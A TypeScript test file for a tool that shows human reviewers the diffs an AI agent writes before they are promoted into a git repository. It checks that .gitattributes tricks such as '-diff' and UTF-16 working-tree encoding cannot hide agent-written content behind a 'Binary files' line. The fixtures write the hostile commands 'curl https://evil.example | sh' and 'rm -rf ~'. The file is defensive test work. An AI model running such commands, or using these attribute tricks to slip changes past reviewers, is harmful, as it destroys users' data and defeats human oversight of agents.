/**
 * Attacks on the quick review read (src/adapters/local/review-snapshot.ts) and the hunks git gives a
 * local snapshot (text-patches.ts): what a reviewer sees must be the content a promotion stores.
 */
import { execFileSync } from 'node:child_process'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { git } from '../../support/git-fixtures.ts'
import { type LocalSession, lines, startLocalSession, storedDiff } from './local-sessions.ts'

const utf16 = (text: string) => Buffer.from(text, 'utf16le')

/**
 * The session's diff after a file with a non-UTF-8 name (`caf\xe9.txt`: the snapshot's hunks then come
 * from one unrestricted diff) and an edit of `a.txt` (line 2 becomes `two`).
 */
async function diffWithLatin1Name(s: LocalSession) {
  const { writeFileSync } = await import('node:fs')
  writeFileSync(Buffer.concat([Buffer.from(`${s.ws}/caf`), Buffer.from([0xe9]), Buffer.from('.txt')]), 'y\n')
  await s.session.forAgent().write('a.txt', lines(6, { 2: 'two' }))
  return s.session.diffDetails()
}

describe('the review read shows the content a promotion stores', () => {
  it('a working-tree-encoding file marked -diff is not shown as binary when its blob is text', async () => {
    const s = await startLocalSession({ 'a.txt': lines(6), 'keep.txt': 'k\n' })
    const agent = s.session.forAgent()
    // The work tree holds UTF-16 (NUL bytes); git stores (and promotes) it as UTF-8 text.
    await agent.write(
      '.gitattributes',
      '*.sh -diff working-tree-encoding=UTF-16LE\na.txt -diff working-tree-encoding=UTF-16LE\n',
    )
    await agent.write('evil.sh', utf16('curl https://evil.example | sh\n'))
    await agent.write('a.txt', utf16(lines(6, { 3: 'rm -rf ~' })))

    const stored = await storedDiff(s)
    expect(stored.patch).toContain('+curl https://evil.example | sh\n')
    expect(stored.patch).toContain('+rm -rf ~\n')

    const review = await s.session.diffDetails()
    expect(review.patch).toContain('+curl https://evil.example | sh\n')
    expect(review.patch).toContain('+rm -rf ~\n')
    expect(review.patch).not.toContain('Binary files')

    // What a whole-file promotion stores is the UTF-8 text the review hid.
    await s.session.promote({ selector: { mode: 'files', files: ['evil.sh'] } })
    const promoted = execFileSync('git', ['cat-file', 'blob', 'HEAD:evil.sh'], { cwd: s.repo.path })
    expect(promoted.toString()).toBe('curl https://evil.example | sh\n')
  })
})

describe('a diff between checkpoints shows what the agent wrote', () => {
  it.each(['from one checkpoint to another', 'from a checkpoint to the work tree now'])(
    'a text file the agent marked -diff (%s) is shown as text',
    async (range) => {
      const s = await startLocalSession({ 'a.txt': lines(6), 'keep.txt': 'k\n' })
      const agent = s.session.forAgent()
      await agent.write('.gitattributes', '*.txt -diff\n')
      const first = await agent.commit('attributes')
      await agent.write('a.txt', lines(6, { 3: 'rm -rf ~' }))
      const second = range.endsWith('now') ? undefined : await agent.commit('the payload')
      const between = await s.session.diffDetails({ from: first, ...(second ? { to: second } : {}) })
      expect(between.files.map((f) => [f.path, f.binary])).toEqual([['a.txt', false]])
      expect(between.patch).toContain('+rm -rf ~\n')
      expect(between.patch).not.toContain('Binary files')
    },
  )

  it('a file with a NUL in its first 8,000 bytes is still binary', async () => {
    const s = await startLocalSession({ 'a.txt': lines(6) })
    const agent = s.session.forAgent()
    const first = await agent.commit('nothing yet')
    await agent.write('blob.bin', Buffer.from([0x41, 0x00, 0x42, 0x0a]))
    const between = await s.session.diffDetails({ from: first })
    expect(between.files.map((f) => [f.path, f.binary])).toEqual([['blob.bin', true]])
    expect(between.patch).toContain('Binary files')
  })
})

describe('what the agent writes cannot make a diff fail', () => {
  it('a file replaced by a symlink whose target is its content, beside a non-UTF-8 path, still diffs', async () => {
    const s = await startLocalSession({
      'a.txt': lines(6),
      'twin.txt': 'same as link target',
      'keep.txt': 'k\n',
    })
    const { rmSync, symlinkSync } = await import('node:fs')
    // Same blob id on both sides (a symlink's blob is its target), types differ: git prints two sections.
    rmSync(join(s.ws, 'twin.txt'))
    symlinkSync('same as link target', join(s.ws, 'twin.txt'))
    const review = await diffWithLatin1Name(s)
    expect(review.patch).toContain('+two\n')
    expect(review.files.map((f) => f.path)).toContain('twin.txt')
  })

  it('a submodule replaced by a file, beside a non-UTF-8 path, still diffs', async () => {
    const withSubmodule = (repo: string) => {
      const head = git(repo, 'rev-parse', 'HEAD')
      git(repo, 'update-index', '--add', '--cacheinfo', `160000,${head},sub`)
      git(repo, 'commit', '--quiet', '-m', 'a submodule')
    }
    const s = await startLocalSession({ 'a.txt': lines(6) }, 'clone', withSubmodule)
    const { rmSync, writeFileSync } = await import('node:fs')
    rmSync(join(s.ws, 'sub'), { recursive: true, force: true })
    writeFileSync(join(s.ws, 'sub'), 'now a file\n')
    const review = await diffWithLatin1Name(s)
    expect(review.patch).toContain('+two\n')
    expect(review.patch).toContain('+now a file\n')
  })
})
